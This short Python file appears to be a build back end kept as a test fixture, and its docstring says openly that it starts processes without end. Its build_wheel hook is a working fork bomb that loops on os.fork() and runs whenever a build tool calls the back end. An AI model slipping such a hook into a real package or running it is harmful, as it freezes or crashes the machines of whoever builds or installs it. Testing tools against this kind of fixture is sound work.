"""A back end that starts processes without end."""

import os
import time


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.1)
